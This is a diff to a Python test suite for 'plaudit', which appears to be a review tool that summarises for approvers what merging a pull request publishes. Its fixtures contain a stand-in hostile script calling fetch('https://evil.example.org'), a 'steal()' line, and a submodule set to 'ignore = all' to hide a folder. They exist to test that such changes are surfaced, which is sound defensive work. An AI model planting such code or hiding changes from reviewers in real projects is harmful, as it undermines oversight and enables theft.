@@ -7,7 +7,7 @@ from pathlib import Path
 from plaudit.history import touched_lines
 from plaudit.previewing import file_names
 from support.command import plaudit
-from support.git import commit_all
+from support.git import commit_all, git
 from support.record_cases import base_site, write_folder
 
 AWARD = "profiles/ana-lima/awards/26k7m4q2tz9x.yml"
@@ -65,9 +65,54 @@ def test_an_approver_reads_in_the_summary_what_merging_publishes(tmp_path: Path)
     assert summary.startswith("### Plaudit: no problems found\n")
     assert "| new award | Feedback for Ana Lima | <https://credentials.test.example.org/a/26" in summary
     assert "+ awarded: 2026-06-01" in summary
-    (tmp_path / "catalog" / "stacks" / "path.yml").write_text("name: [\n", encoding="utf-8")
-    plaudit("check", "--since", "main", "--format", "github", folder=tmp_path, GITHUB_STEP_SUMMARY="broken.md")
-    assert "can be said once every file can be read" in (tmp_path / "broken.md").read_text("utf-8")
+
+
+def test_where_a_record_cannot_be_read_the_files_are_told(tmp_path: Path) -> None:
+    commit_all(base_site(tmp_path, **{"catalog/stacks/path.yml": "name: [\n"}))
+    write_folder(tmp_path, {"theme/assets/x.js": "steal()\n", AWARD: "credential: feedback@1\nawarded: 2026-05-14\n"})
+    plaudit("check", "--since", "main", "--format", "github", folder=tmp_path, GITHUB_STEP_SUMMARY="summary.md")
+    summary = (tmp_path / "summary.md").read_text("utf-8")
+    assert "can be said once every file can be read" in summary
+    rows = [line for line in summary.splitlines() if line.startswith("| ")]
+    assert rows[1:] == [
+        "| new theme file | theme/assets/x.js | every page |",
+        f"| changed record | {AWARD} | not compared |",
+    ]
+    assert "+steal()" in summary
+    assert "-credential: talk@1" in summary
+
+
+def test_no_number_of_pictures_and_pages_hides_a_program_from_the_approver(tmp_path: Path) -> None:
+    commit_all(base_site(tmp_path))
+    pictures = {f"catalog/images/a{number}.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>" for number in range(150)}
+    pages = {f"pages/a{number}.md": "# A\n" + "A long line of prose.\n" * 2000 for number in range(60)}
+    program = {"theme/assets/z.js": "fetch('https://evil.example.org')\n", ".github/workflows/z.yml": "on: push\n"}
+    write_folder(tmp_path, pictures | pages | program)
+    plaudit("check", "--since", "main", "--format", "github", folder=tmp_path, GITHUB_STEP_SUMMARY="summary.md")
+    summary = (tmp_path / "summary.md").read_text("utf-8")
+    assert len(summary.encode()) < 1_000_000
+    rows = [line for line in summary.splitlines() if line.startswith("| ")]
+    assert rows[1:3] == [
+        "| new theme file | theme/assets/z.js | every page |",
+        "| new other file | .github/workflows/z.yml | runs when the site is built |",
+    ]
+    assert "and 12 more: 12 pictures" in summary
+    assert "+fetch('https://evil.example.org')" in summary
+    assert "+on: push" in summary
+    assert summary.count("more lines left out") == 60
+    assert "#### new picture: catalog/images/a149.svg" in summary
+
+
+def test_many_findings_leave_room_for_what_is_published(tmp_path: Path) -> None:
+    commit_all(base_site(tmp_path))
+    items = "".join(f"  - missing-credential-{number}-{'x' * 40}\n" for number in range(9000))
+    write_folder(tmp_path, {"catalog/stacks/path.yml": f"name: Path\nsummary: A path.\nall_of:\n{items}"})
+    plaudit("check", "--since", "main", "--format", "github", folder=tmp_path, GITHUB_STEP_SUMMARY="summary.md")
+    summary = (tmp_path / "summary.md").read_text("utf-8")
+    shown = summary.count("there is no credential `missing")
+    assert shown > 1000
+    assert f"and {9000 - shown:,} more, which `plaudit check` prints" in summary
+    assert "| changed stack | Path | <https://credentials.test.example.org/stacks/path/> |" in summary
 
 
 def test_the_ten_annotations_that_github_shows_are_those_on_touched_lines(tmp_path: Path) -> None:
@@ -110,6 +155,14 @@ def test_a_preview_shows_what_merging_would_change(tmp_path: Path) -> None:
         assert "<script" not in text
         assert "Preview" in text
     assert plaudit("preview", "--since", "main", "--out", tmp_path / "out", folder=tmp_path).returncode == 2
+
+
+def test_no_setting_hides_a_folder_of_other_people_from_the_comparison(tmp_path: Path) -> None:
+    commit_all(base_site(tmp_path))
+    (tmp_path / ".gitmodules").write_text('[submodule "x"]\npath = x\nurl = ./x\nignore = all\n', encoding="utf-8")
+    git(tmp_path, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},x")
+    (tmp_path / "x").mkdir()
+    assert touched_lines(tmp_path, "main").keys() == {".gitmodules", "x"}
 
 
 def test_links_that_lead_out_of_the_base_do_no_harm(tmp_path: Path) -> None:
